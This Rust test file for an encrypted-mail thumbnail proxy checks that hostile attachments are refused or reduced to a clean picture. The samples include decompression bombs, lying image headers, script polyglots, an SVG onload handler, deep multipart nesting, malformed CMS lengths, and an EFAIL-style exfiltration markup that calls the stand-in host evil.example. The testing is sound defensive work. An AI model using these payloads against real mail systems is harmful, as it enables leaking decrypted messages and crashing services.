//! What senders may send: pictures that explode, lie or are none, parts that are nested or cut. Each gets a clear refusal, or a
//! picture and nothing else; the server and the connection live, and the next picture is converted.

#![cfg(test)]

use handset::{Error, Fetched, NoConversion};
use image::ImageFormat;
use tests::harness::dovecot::ANN;
use tests::harness::embedded::Embedded;
use tests::harness::imap::Client;
use tests::harness::keyhole::{Behind, Keyhole, Settings};
use tests::harness::mail;
use tests::harness::openssl::{self, Cipher, KeyKind, Layout, Recipient, Transport};
use tests::harness::photograph;
use tests::harness::scratch::Scratch;
use tests::harness::visit::Visit;
use wire::imap::CommandBody;

const MARKUP: &str = "<html><script>alert(1)</script><img src=\"http://evil.example/?";

struct Scene {
    keyhole: Keyhole,
    store: Embedded,
    recipient: Recipient,
    delivered: u32,
    _folder: Scratch,
}

impl Scene {
    fn new(settings: &Settings) -> Self {
        let folder = Scratch::new();
        let store = Embedded::start();
        Self {
            keyhole: Keyhole::start_with(&Behind::embedded(&store), settings),
            store,
            recipient: Recipient::make(folder.path(), "ann", KeyKind::P256),
            delivered: 0,
            _folder: folder,
        }
    }

    fn visit(&self) -> Visit {
        Visit::new(&self.keyhole, ANN, &self.recipient)
    }

    fn encrypt(&self, entity: &[u8]) -> Vec<u8> {
        openssl::encrypt(
            entity,
            &self.recipient,
            Cipher::Aes256Gcm,
            Transport::EcdhSha256,
            Layout::Stream,
        )
    }

    /// Delivers a message and says its UID.
    fn deliver(&mut self, message: &[u8]) -> u32 {
        self.store.deliver(ANN, message);
        self.delivered += 1;
        self.delivered
    }

    /// Delivers a message whose section 2 is this CMS object, and fetches a thumbnail of it.
    fn fetch_cms(&mut self, visit: &mut Visit, cms: &[u8]) -> Result<Fetched, Error> {
        let part = mail::smime_part(cms, Cipher::Aes256Gcm);
        let uid = self.deliver(&mail::message_with_parts("hostile", &[part]));
        // An open mailbox learns of new messages at a NOOP (RFC 9051 §6.1.2).
        visit.command(CommandBody::Noop)?;
        visit.fetch(uid, "2")
    }

    /// The same with the entity that is to be encrypted.
    fn fetch(&mut self, visit: &mut Visit, entity: &[u8]) -> Result<Fetched, Error> {
        let cms = self.encrypt(entity);
        self.fetch_cms(visit, &cms)
    }

    /// A new message with a good photograph is converted on the same connection, and no vault was killed by what it read.
    fn still_works(&mut self, visit: &mut Visit) {
        is_picture(
            &self
                .fetch(visit, &jpeg(&photograph::small().octets))
                .expect("a thumbnail"),
        );
        for ended in self.keyhole.events("vault_ended") {
            let exit = ended["exit"].as_str().expect("how it ended");
            assert!(exit.starts_with("status "), "{ended}");
        }
        assert!(self.keyhole.events("vault_failed").is_empty());
    }
}

fn jpeg(octets: &[u8]) -> Vec<u8> {
    mail::entity("image/jpeg", "p.jpg", octets)
}

fn is_picture(fetched: &Fetched) {
    let octets = fetched.content.expose();
    let picture = image::load_from_memory(octets).expect("a picture that decodes");
    assert_eq!((picture.width(), picture.height()), (160, 120));
    let traces = ["script", "evil.example", "<html"];
    for trace in traces.map(str::as_bytes) {
        assert!(!octets.windows(trace.len()).any(|window| window == trace));
    }
}

/// The small photograph as JPEG with other dimensions in its frame header (ITU-T T.81 §B.2.2).
fn jpeg_that_says(width: u16, height: u16) -> Vec<u8> {
    let mut octets = photograph::small().octets.clone();
    let frame = octets
        .windows(2)
        .position(|marker| marker == [0xff, 0xc0])
        .expect("a frame header");
    octets[frame + 5..frame + 7].copy_from_slice(&height.to_be_bytes());
    octets[frame + 7..frame + 9].copy_from_slice(&width.to_be_bytes());
    octets
}

/// A PNG of one colour: its picture is a thousand times its file (PNG specification §11.2.2).
fn png_bomb(side: u32) -> Vec<u8> {
    let mut octets = std::io::Cursor::new(Vec::new());
    let picture = image::GrayImage::new(side, side);
    picture.write_to(&mut octets, ImageFormat::Png).unwrap();
    octets.into_inner()
}

/// A GIF of many frames, each of 100 × 100 pixels (GIF89a §20, §22).
fn gif_of(frames: usize) -> Vec<u8> {
    let mut octets = b"GIF89a\x64\0\x64\0\x80\0\0\0\0\0\xff\xff\xff".to_vec();
    for _ in 0..frames {
        octets.extend(b"\x2c\0\0\0\0\x64\0\x64\0\0\x02\x02\x4c\x01\0");
    }
    octets.push(b';');
    octets
}

fn nested(depth: usize, innermost: Vec<u8>) -> Vec<u8> {
    (0..depth).fold(innermost, |inner, level| {
        mail::multipart(&[inner], &format!("=_{level}"))
    })
}

/// What is refused, and a word of the reason that must be given.
fn refused() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let photograph = &photograph::small().octets;
    let half = &photograph[..photograph.len() / 2];
    let script = [b"GIF89a/*".as_slice(), MARKUP.as_bytes(), b"*/=1;"].concat();
    let png = photograph::small_as(ImageFormat::Png);
    vec![
        (
            "a PNG bomb",
            mail::entity("image/png", "b.png", &png_bomb(8000)),
            "more pixels",
        ),
        (
            "a JPEG of 50,000 × 50,000",
            jpeg(&jpeg_that_says(50_000, 50_000)),
            "more pixels",
        ),
        ("a JPEG of 0 × 0", jpeg(&jpeg_that_says(0, 0)), "damaged"),
        (
            "a GIF of 10,000 frames",
            mail::entity("image/gif", "g.gif", &gif_of(10_000)),
            "more pixels",
        ),
        ("half a JPEG", jpeg(half), "damaged"),
        (
            "half a PNG",
            mail::entity("image/png", "p.png", &png[..png.len() / 2]),
            "damaged",
        ),
        (
            "a GIF that is a script",
            mail::entity("image/gif", "s.gif", &script),
            "damaged",
        ),
        ("markup that says JPEG", jpeg(MARKUP.as_bytes()), "picture"),
        (
            "markup",
            mail::entity("text/html", "m.html", MARKUP.as_bytes()),
            "text",
        ),
        (
            "a drawing with a script",
            mail::entity("image/svg+xml", "s.svg", b"<svg onload='x()'/>"),
            "picture",
        ),
        ("a PNG that says JPEG", jpeg(&png), "picture"),
        (
            "a JPEG that says PDF",
            mail::entity("application/pdf", "p.pdf", photograph),
            "document",
        ),
        (
            "a JPEG that says text",
            mail::entity("text/plain", "p.txt", photograph),
            "text",
        ),
        ("nothing", jpeg(b""), "picture"),
        (
            "a multipart 1000 deep",
            nested(1000, jpeg(photograph)),
            "nothing that is converted",
        ),
        (
            "a multipart of text",
            nested(1, mail::entity("text/plain", "t", b"t")),
            "nothing that is converted",
        ),
    ]
}

#[test]
fn each_hostile_part_gets_its_reason_and_the_connection_goes_on() {
    let mut scene = Scene::new(&Settings::default());
    let mut visit = scene.visit();
    for (what, entity, reason) in refused() {
        match scene.fetch(&mut visit, &entity) {
            Err(Error::NoConversion(NoConversion::Impossible(said))) => {
                assert!(said.as_str().contains(reason), "{what}: {said}");
            }
            Err(error) => panic!("{what}: {error}"),
            Ok(_) => panic!("{what}: converted"),
        }
    }
    scene.still_works(&mut visit);
}

#[test]
fn what_hides_beside_a_picture_never_comes_out() {
    let mut scene = Scene::new(&Settings::default());
    let mut visit = scene.visit();
    let photograph = &photograph::small().octets;
    let tail = [photograph, MARKUP.as_bytes()].concat();
    let comment = [
        &photograph[..2],
        b"\xff\xfe\0\x40",
        &MARKUP.as_bytes()[..62],
        &photograph[2..],
    ]
    .concat();
    // EFAIL's direct exfiltration: an open quote before, the secret, the end of the quote.
    let markup = |text: &str| mail::entity("text/html", "m.html", text.as_bytes());
    let between = mail::multipart(&[markup(MARKUP), jpeg(photograph), markup("\">")], "efail");
    let message = mail::message("in", &jpeg(photograph));
    let forwarded = [b"Content-Type: message/rfc822\r\n\r\n".as_slice(), &message].concat();
    for entity in [jpeg(&tail), jpeg(&comment), between, forwarded] {
        is_picture(&scene.fetch(&mut visit, &entity).expect("a thumbnail"));
    }
    scene.still_works(&mut visit);
}

#[test]
fn lengths_that_lie_in_the_middle_of_the_object_are_a_refused_reveal() {
    let mut scene = Scene::new(&Settings::default());
    let mut visit = scene.visit();
    let cms = scene.encrypt(&jpeg(&photograph::small().octets));
    // An OCTET STRING of the streamed content (X.690 §8.7.3), behind all that the handset looks at.
    let far = cms.len() / 2;
    let chunk = cms[far..]
        .windows(4)
        .position(|octets| octets == [0x04, 0x82, 0x10, 0x00]);
    let chunk = far + chunk.expect("a piece of the content");
    let lengths: [&[u8]; 7] = [
        b"\x82\xff\xff",
        b"\x84\x7f\xff\xff\xff",
        b"\x84\xff\xff\xff\xff",
        b"\x88\xff\xff\xff\xff\xff\xff\xff\xff",
        b"\x80",
        b"\xff",
        b"\x00",
    ];
    for length in lengths {
        let altered = [&cms[..chunk + 1], length, &cms[chunk + 4..]].concat();
        let ended = scene.fetch_cms(&mut visit, &altered);
        assert!(
            matches!(ended, Err(Error::RevealRefused(_))),
            "{length:02x?}"
        );
    }
    for kept in [cms.len() - 1, cms.len() - 20, cms.len() / 2] {
        let ended = scene.fetch_cms(&mut visit, &cms[..kept]);
        assert!(
            matches!(ended, Err(Error::RevealRefused(_))),
            "cut to {kept}"
        );
    }
    scene.still_works(&mut visit);
}

#[test]
fn a_part_over_the_limit_is_refused_with_the_reason() {
    let settings = Settings {
        vault: "part_octets = 600000\n".to_owned(),
        ..Settings::default()
    };
    let mut scene = Scene::new(&settings);
    let mut visit = scene.visit();
    let bitmap = photograph::small_as(ImageFormat::Bmp);
    let entity = mail::entity("image/bmp", "p.bmp", &bitmap);
    match scene.fetch(&mut visit, &entity) {
        Err(Error::NoConversion(NoConversion::Impossible(said))) => {
            assert!(said.as_str().contains("more octets"), "{said}");
        }
        Err(error) => panic!("{error}"),
        Ok(_) => panic!("converted"),
    }
    scene.still_works(&mut visit);
}

#[test]
fn a_message_nested_a_thousand_deep_is_relayed_and_never_converted() {
    let mut scene = Scene::new(&Settings::default());
    let deep = nested(1000, jpeg(b"x"));
    let uid = scene.deliver(&mail::message("deep", &deep));
    let mut client = Client::tls(scene.keyhole.address, &scene.keyhole.certificate.authority);
    client.login(ANN);
    assert!(client.command("SELECT INBOX").is_ok());
    let direct = {
        let mut client = Client::clear(scene.store.address);
        client.login(ANN);
        assert!(client.command("SELECT INBOX").is_ok());
        client.command(&format!("UID FETCH {uid} (BODYSTRUCTURE BODY.PEEK[])"))
    };
    let relayed = client.command(&format!("UID FETCH {uid} (BODYSTRUCTURE BODY.PEEK[])"));
    assert_eq!(relayed.octets(), direct.octets());
    let convert = "(\"application/vnd.keyhole.sealed\" (\"u.urn:x-keyhole:type\" \"image/jpeg\"))";
    let answer = client.command(&format!(
        "UID CONVERT {uid} {convert} BINARY[{}1]",
        "1.".repeat(999)
    ));
    assert!(
        answer.tagged.starts_with("NO [CANNOT]"),
        "{}",
        answer.tagged
    );
    assert!(client.command("NOOP").is_ok());
    let mut visit = scene.visit();
    scene.still_works(&mut visit);
}
